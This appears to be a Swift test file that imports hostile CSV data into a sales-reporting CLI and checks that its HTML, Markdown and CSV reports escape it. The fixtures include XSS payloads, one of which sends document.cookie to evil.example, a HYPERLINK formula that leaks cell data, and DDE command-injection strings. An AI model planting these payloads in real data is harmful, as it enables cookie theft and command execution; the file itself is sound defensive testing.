import Foundation
import PyramidIngest
import Testing

@testable import pyramid

/// Names, teams, subjects, contacts and companies that carry HTML, script, Markdown and spreadsheet formulas,
/// imported from CSV and rendered by `pyramid report` and `pyramid agenda`: escaped in HTML and Markdown,
/// neutralized in CSV. (EscapingTests checks the renderers alone; this goes through the whole pipeline.)
struct HostileContentTests {
    static let script = "<script>alert('x')</script>"
    static let markdownLink = "*Ben* [click](http://evil.example/)"
    static let hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Report\")"
    static let dde = "+cmd|' /C calc'!A0"

    /// A workspace whose roster and week 2026-W46 are full of hostile text.
    static func workspace() throws -> (folder: URL, db: String) {
        let folder = try scratchFolder()
        let roster = """
            email,name,team,manager,role,start_date
            ana@example.com,\(csv(script)),\(csv(dde)),<img src=x onerror=alert(1)>,SDR,2025-01-06
            ben@example.com,\(csv(markdownLink)),-2+3,maria@example.com,SDR,2025-01-06
            @sum(1+1)@example.com,\(csv(hyperlink)),@SUM(1+1),maria@example.com,AE,2025-01-06

            """
        var activities = "id,owner,kind,direction,outcome,timestamp,duration,subject,contact,company\n"
        for (n, owner) in ["ana@example.com", "ben@example.com", "@sum(1+1)@example.com"].enumerated() {
            for i in 0..<12 {
                activities += "h\(n)-\(i),\(owner),call,outbound,\(i % 3 == 0 ? "connected" : "no-answer"),"
                activities += "2026-11-\(10 + i % 4)T\(10 + i % 6):00:00Z,\(i % 3 == 0 ? 300 : 0),"
                activities += csv("<script>document.location='http://evil.example/'+document.cookie</script>") + ","
                activities += csv("=cmd|'/C calc'!A0") + "," + csv("[x](javascript:alert(1)) <b>Acme</b>") + "\n"
            }
        }
        let deals =
            "id,owner,name,amount,stage,close_date\nhd1,ana@example.com,\(csv(hyperlink)),5000,Closed Won,2026-11-11\n"
        for (name, text) in [("roster.csv", roster), ("calls.csv", activities), ("deals.csv", deals)] {
            try text.write(to: folder.appendingPathComponent(name), atomically: true, encoding: .utf8)
        }
        let db = folder.appendingPathComponent("w.sqlite").path
        var command = try Pyramid.parseAsRoot(
            ["import", "--db", db, "--quiet"]
                + ["roster.csv", "calls.csv", "deals.csv"].map {
                    folder.appendingPathComponent($0).path
                })
        try command.run()
        return (folder, db)
    }

    /// A CSV cell, quoted.
    static func csv(_ text: String) -> String { "\"" + text.replacingOccurrences(of: "\"", with: "\"\"") + "\"" }

    /// Renders `arguments` for week 2026-W46 into a file and returns it.
    static func render(_ arguments: [String], db: String, folder: URL, name: String) throws -> String {
        let output = folder.appendingPathComponent(name).path
        var command = try Pyramid.parseAsRoot(arguments + ["--db", db, "--week", "2026-W46", "--output", output])
        try command.run()
        return try String(contentsOfFile: output, encoding: .utf8)
    }

    @Test func htmlReportAndAgendaEscapeEverything() throws {
        let (folder, db) = try Self.workspace()
        defer { try? FileManager.default.removeItem(at: folder) }
        var pages = [try Self.render(["report", "--format", "html"], db: db, folder: folder, name: "team.html")]
        for email in ["ana@example.com", "ben@example.com", "@sum(1+1)@example.com"] {
            pages.append(
                try Self.render(["agenda", email, "--format", "html"], db: db, folder: folder, name: "a.html"))
        }
        #expect(pages[0].contains("&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;"))
        #expect(pages[0].contains("=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;Report&quot;)"))
        #expect(pages[1].contains("<h1>One-to-one: &lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;"))
        for page in pages {
            // Every tag is the renderer's own: none carries a script, an event handler or an outside address.
            let tags = page.matches(of: /<[a-zA-Z\/!][^>]*>/).map { String($0.output) }
            #expect(!tags.isEmpty)
            let hostile = tags.filter {
                $0.contains("script") || $0.contains("onerror") || $0.contains("evil.example") || $0.contains("<img")
                    || $0.contains("<a ") || $0.contains("<b>")
            }
            #expect(hostile == [])
        }
    }

    @Test func markdownReportAndAgendaEscapeFormattingLinksAndTables() throws {
        let (folder, db) = try Self.workspace()
        defer { try? FileManager.default.removeItem(at: folder) }
        let team = try Self.render(["report", "--format", "markdown"], db: db, folder: folder, name: "team.md")
        let agenda = try Self.render(["agenda", "ben@example.com"], db: db, folder: folder, name: "ben.md")
        #expect(team.contains("\\<script\\>alert('x')\\</script\\>"))
        #expect(team.contains("\\*Ben\\* \\[click\\](http://evil.example/)"))
        #expect(team.contains("+cmd\\|' /C calc'\\!A0"))
        #expect(agenda.hasPrefix("# One-to-one: \\*Ben\\* \\[click\\](http://evil.example/), week 2026-W46"))
        for text in [team, agenda] {
            // No HTML or link opens unescaped: every '<' and '[' the export brought is behind a '\' (the
            // agenda's own "- [ ]" checkboxes aside).
            #expect(text.matches(of: /(^|[^\\])(<|\[(?! \]))/.anchorsMatchLineEndings()).isEmpty)
            #expect(!text.contains("*Ben*"))
        }
        // The table keeps its columns: a pipe in a team name does not open a new cell.
        let rows = team.split(separator: "\n").filter { $0.hasPrefix("| ") }
        let widths = Set(rows.map { $0.replacingOccurrences(of: "\\|", with: "").filter { $0 == "|" }.count })
        #expect(widths.count == 1)
    }

    @Test func csvReportNeutralizesFormulas() throws {
        let (folder, db) = try Self.workspace()
        defer { try? FileManager.default.removeItem(at: folder) }
        let text = try Self.render(["report", "--format", "csv"], db: db, folder: folder, name: "team.csv")
        var reader = CSVReader(source: MemoryByteSource(text))
        var decoder = TextDecoder()
        var cells: [String] = []
        var rows = 0
        while try reader.next() {
            rows += 1
            cells += reader.cells(decoder: &decoder)
        }
        #expect(rows == 4)
        // No cell starts the way a spreadsheet formula does.
        let formulas = cells.filter { cell in cell.first.map { "=+-@\t\r".contains($0) } ?? false }
        #expect(formulas == [])
        // The hostile values are kept, behind an apostrophe.
        for value in [Self.hyperlink, Self.dde, "-2+3", "@SUM(1+1)", "@sum(1+1)@example.com"] {
            #expect(cells.contains("'" + value), "\(value)")
        }
        #expect(cells.contains(Self.script))
    }
}
